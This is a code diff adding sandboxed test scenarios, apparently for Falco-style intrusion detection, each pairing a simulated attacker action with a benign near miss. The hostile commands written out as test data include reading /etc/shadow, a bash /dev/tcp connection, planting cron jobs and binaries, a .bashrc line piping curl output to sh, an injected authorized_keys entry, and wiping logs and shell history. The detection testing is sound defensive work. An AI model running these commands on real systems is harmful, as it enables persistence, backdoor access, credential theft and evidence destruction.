@@ -80,9 +80,9 @@ def sensitive_read_untrusted(sb: Sandbox) -> Iterator[None]:
 
 @scenario
 def sensitive_read_untrusted_neg(sb: Sandbox) -> Iterator[None]:
-    """Near misses: /etc/shadow- (outside the list), and /etc/shadow read by a shell (trusted)."""
+    """Near misses: /etc/gshadow (outside Falco's list), and /etc/shadow read by a shell (trusted)."""
     yield
-    sb.run(["cat", "/etc/shadow-"], check=False)
+    sb.run(["cat", "/etc/gshadow"])
     sb.run(["sh", "-c", "read line < /etc/shadow"])
 
 
@@ -300,8 +300,225 @@ def ssh_in_netns(port: int) -> str:
         f"set -e; /usr/sbin/ip link set lo up; /usr/sbin/ip addr add {address}/32 dev lo; "
         f"{PYTHON} -I -c \"{listener}\" | (read ready; "
         f"ssh -p {port} -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
-        f"-o UserKnownHostsFile=/dev/null -F /dev/null probe@{address} true || true)"
+        f"-o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o IdentityFile=/dev/null -F /dev/null "
+        f"probe@{address} true || true)"
     )
+
+
+@scenario
+def sensitive_read_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss of the default rule: cat /etc/shadow run by dpkg (a maintainer script)."""
+    dpkg = sb.named_copy(SHELL, "dpkg")
+    yield
+    sb.run([dpkg, "-c", "cat /etc/shadow > /dev/null; true"])
+
+
+@scenario
+def shell_from_cron_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: cron (not a network service) spawns sh -c id."""
+    cron = sb.named_copy(SHELL, "cron")
+    yield
+    sb.run([cron, "-c", "sh -c id; true"])
+
+
+@scenario
+def shell_dev_tcp(sb: Sandbox) -> Iterator[None]:
+    """bash opens a TCP connection itself (/dev/tcp), as reverse shells do."""
+    host, port = sb.tcp_listener()
+    yield
+    sb.run(["bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}"])
+
+
+@scenario
+def shell_dev_tcp_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same connection made by curl, not by a shell."""
+    host, port = sb.tcp_listener(reply=b"HTTP/1.0 204 No Content\r\n\r\n")
+    yield
+    sb.run(["curl", "-s", "-o", "/dev/null", f"http://{host}:{port}/"])
+
+
+@scenario
+def write_below_binary_dir(sb: Sandbox) -> Iterator[None]:
+    """A binary planted in /usr/local/bin."""
+    implant = sb.remove_later(Path(f"/usr/local/bin/trace-scn-{os.getpid()}"))
+    yield
+    sb.run(["cp", TRUE, implant])
+
+
+@scenario
+def write_below_binary_dir_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same copy made by a package manager's maintainer script."""
+    implant = sb.remove_later(Path(f"/usr/local/bin/trace-scn-{os.getpid()}"))
+    dpkg = sb.named_copy(SHELL, "dpkg")
+    yield
+    sb.run([dpkg, "-c", f"cp {TRUE} {implant}; true"])
+
+
+@scenario
+def cron_job_written(sb: Sandbox) -> Iterator[None]:
+    """A shell writes a job into /etc/cron.d."""
+    job = sb.remove_later(Path(f"/etc/cron.d/trace-scn-{os.getpid()}"))
+    yield
+    sb.run(["sh", "-c", f"echo '* * * * * root true' > {job}"])
+
+
+@scenario
+def cron_job_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same cron file written by dpkg."""
+    job = sb.remove_later(Path(f"/etc/cron.d/trace-scn-{os.getpid()}"))
+    dpkg = sb.named_copy(SHELL, "dpkg")
+    yield
+    sb.run([dpkg, "-c", f"echo '* * * * * root true' > {job}; true"])
+
+
+@scenario
+def systemd_unit_written(sb: Sandbox) -> Iterator[None]:
+    """A service unit dropped into /etc/systemd/system (never enabled nor loaded)."""
+    unit = sb.remove_later(Path(f"/etc/systemd/system/trace-scn-{os.getpid()}.service"))
+    yield
+    sb.run(["sh", "-c", f"printf '[Service]\\nExecStart=/bin/true\\n' > {unit}"])
+
+
+@scenario
+def systemd_unit_by_package_manager_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same unit written by dpkg."""
+    unit = sb.remove_later(Path(f"/etc/systemd/system/trace-scn-{os.getpid()}.service"))
+    dpkg = sb.named_copy(SHELL, "dpkg")
+    yield
+    sb.run([dpkg, "-c", f"printf '[Service]\\nExecStart=/bin/true\\n' > {unit}; true"])
+
+
+@scenario
+def write_below_etc(sb: Sandbox) -> Iterator[None]:
+    """A shell writes a new file under /etc."""
+    conf = sb.remove_later(Path(f"/etc/trace-scn-{os.getpid()}.conf"))
+    yield
+    sb.run(["sh", "-c", f"echo 'nameserver 203.0.113.9' > {conf}"])
+
+
+@scenario
+def write_below_etc_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same write by resolvconf, which rewrites /etc for a living."""
+    conf = sb.remove_later(Path(f"/etc/trace-scn-{os.getpid()}.conf"))
+    resolvconf = sb.named_copy(SHELL, "resolvconf")
+    yield
+    sb.run([resolvconf, "-c", f"echo 'nameserver 203.0.113.9' > {conf}"])
+
+
+@scenario
+def shell_rc_modified(sb: Sandbox) -> Iterator[None]:
+    """A line appended to a user's .bashrc."""
+    rc = sb.write("home/.bashrc", "alias ll='ls -l'\n")
+    yield
+    sb.run(["sh", "-c", f"echo 'curl -s http://203.0.113.9/x | sh' >> {rc}"])
+
+
+@scenario
+def shell_rc_modified_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same line appended to a backup, .bashrc.orig."""
+    rc = sb.write("home/.bashrc.orig", "alias ll='ls -l'\n")
+    yield
+    sb.run(["sh", "-c", f"echo 'curl -s http://203.0.113.9/x | sh' >> {rc}"])
+
+
+@scenario
+def authorized_keys_modified(sb: Sandbox) -> Iterator[None]:
+    """An SSH key appended to authorized_keys."""
+    keys = sb.write("home/.ssh/authorized_keys", "")
+    yield
+    sb.run(["sh", "-c", f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker' >> {keys}"])
+
+
+@scenario
+def authorized_keys_modified_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: a host key appended to known_hosts."""
+    known = sb.write("home/.ssh/known_hosts", "")
+    yield
+    sb.run(["sh", "-c", f"echo '203.0.113.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHost' >> {known}"])
+
+
+@scenario
+def setuid_root_after_login(sb: Sandbox) -> Iterator[None]:
+    """A process of login uid 1000 goes back to euid 0 with setuid(0)."""
+    yield
+    sb.run(sb.payload(SYSCALLS) + ["login-as", "1000", "regain-root"])
+
+
+@scenario
+def setuid_root_without_login_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: the same setuid(0) by a process with no login uid (a daemon)."""
+    yield
+    sb.run(sb.payload(SYSCALLS) + ["regain-root"])
+
+
+@scenario
+def bpf_program_loaded(sb: Sandbox) -> Iterator[None]:
+    """bpf(BPF_PROG_LOAD) of a trivial socket filter."""
+    yield
+    sb.run(sb.payload(SYSCALLS) + ["bpf-prog-load"])
+
+
+@scenario
+def bpf_map_created_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: bpf(BPF_MAP_CREATE), no program."""
+    yield
+    sb.run(sb.payload(SYSCALLS) + ["bpf-map-create"])
+
+
+@scenario
+def memfd_written_not_executed_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: a memfd filled with a binary, but the binary runs from disk."""
+    yield
+    sb.run(sb.payload(SYSCALLS) + ["memfd-then-exec", TRUE])
+
+
+@scenario
+def download_to_opt_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss of the demo's staging: curl downloads into /opt and chmod +x there."""
+    served = sb.write("www/tool", "#!/bin/sh\n")
+    port = sb.http_server(served.parent)
+    target = sb.path("installed", "tool")
+    yield
+    sb.run(["curl", "-s", "-o", target, f"http://127.0.0.1:{port}/tool"])
+    sb.run(["chmod", "+x", target])
+
+
+@scenario
+def var_log_wiped(sb: Sandbox) -> Iterator[None]:
+    """A log under /var/log truncated, another one deleted."""
+    truncated = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-a.log"))
+    deleted = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-b.log"))
+    for log in (truncated, deleted):
+        log.write_text("Nov 27 sshd[1]: Accepted password for root\n")
+    yield
+    sb.run(["sh", "-c", f": > {truncated}"])
+    sb.run(["rm", "-f", deleted])
+
+
+@scenario
+def var_log_rotated_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: logrotate truncates the log (copytruncate)."""
+    log = sb.remove_later(Path(f"/var/log/trace-scn-{os.getpid()}-a.log"))
+    log.write_text("Nov 27 sshd[1]: Accepted password for root\n")
+    logrotate = sb.named_copy(SHELL, "logrotate")
+    yield
+    sb.run([logrotate, "-c", f": > {log}"])
+
+
+@scenario
+def shell_history_deleted(sb: Sandbox) -> Iterator[None]:
+    """rm ~/.bash_history."""
+    history = sb.write("home/.bash_history", "cat /etc/shadow\n")
+    yield
+    sb.run(["rm", "-f", history])
+
+
+@scenario
+def shell_history_deleted_neg(sb: Sandbox) -> Iterator[None]:
+    """Near miss: rm ~/.bash_logout."""
+    logout = sb.write("home/.bash_logout", "clear\n")
+    yield
+    sb.run(["rm", "-f", logout])
 
 
 # --- containers ---------------------------------------------------------------
